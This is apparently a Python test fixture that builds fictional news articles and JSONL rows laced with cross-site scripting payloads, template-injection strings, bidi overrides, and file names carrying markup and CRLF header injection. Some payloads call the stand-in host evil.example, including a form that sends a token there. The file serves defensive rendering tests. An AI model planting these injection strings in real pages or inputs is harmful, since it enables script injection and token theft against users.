"""Articles written to break the pages that show them: script, markup, overrides, in all that is shown."""

from __future__ import annotations

import json
from pathlib import Path

SCRIPT = "<script>window.broken=1</script>"
IMAGE = '"><img src=x onerror="window.broken=1">'
VECTOR = '<svg onload="window.broken=1"><animate onbegin="window.broken=1" attributeName=x></svg>'
CLOSING = "</bdi></a></li></ul></main></body></html><h1 id=broken>Broken</h1><!--"
OVERRIDE = "\u202egnikaerb\u202c \u2066\u2067\u2069 \u200f\u061c\x1b[2J\x07"
TEMPLATE = "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}"
LINK = "javascript:window.broken=1"
ENTITY = "&lt;script&gt;window.broken=1&lt;/script&gt;&#60;b&#62;"
LONG = "unbroken" * 4000
ZALGO = "Z" + "\u0300\u0316" * 300
FORM = '<form action="https://evil.example"><input name=token><button>Go</button></form>'
STYLE = '<style>*{display:none}</style><link rel=stylesheet href="//evil.example/x.css">'
FRAME = '<iframe srcdoc="<script>parent.broken=1</script>"></iframe><base href="//evil.example/">'
ATTRIBUTE = "' onmouseover='window.broken=1' x='"
ATTACKS = (SCRIPT, IMAGE, VECTOR, CLOSING, OVERRIDE, TEMPLATE, ENTITY, ZALGO, FORM, STYLE, FRAME, ATTRIBUTE)

FILE_NAMES = (
    "<img src=x onerror=window.broken=1>.txt",
    '"><script>window.broken=1<&script>.txt',
    "\u202etxt.gpj.txt",
    "' onmouseover='window.broken=1.txt",
    "{{ 7 * 7 }}.txt",
    "a&b=c#d?e%00%0d%0aSet-Cookie: x=1.txt",
    "x" * 120 + ".txt",
)


def texts() -> list[str]:
    """An article for each attack: in quotes, beside names, in plain statements."""
    told = [
        f"Orlan Vey said that the dam broke {attack} near Karsk.\n\nMira Tolk denied that the dam broke"
        f" {attack} near Karsk. Vey said “we left {attack} at once”. It is reported that {attack} Brem fled."
        f"\n\nTolk predicted that {attack} will fall. Vey said that Tolk lies.\n"
        for attack in ATTACKS
    ]
    return [*told, f"Orlan Vey said that {LONG} broke. {LONG}.\n", f"{SCRIPT} said that the dam broke.\n"]


def write_files(folder: Path) -> None:
    """Each text as a file, the first of them under the worst names."""
    folder.mkdir()
    for number, text in enumerate(texts()):
        name = FILE_NAMES[number] if number < len(FILE_NAMES) else f"{number}.txt"
        (folder / name).write_text(text, encoding="utf-8")


def write_rows(path: Path) -> None:
    """The same as rows of one file, each with the attack as its title, outlet, address and date too."""
    with path.open("w", encoding="utf-8") as file:
        for attack, text in zip(ATTACKS, texts(), strict=False):
            row = {
                "text": text,
                "title": attack,
                "outlet": attack,
                "url": f"{LINK}//{attack}",
                "date": "2031-05-12",
            }
            file.write(json.dumps(row) + "\n")
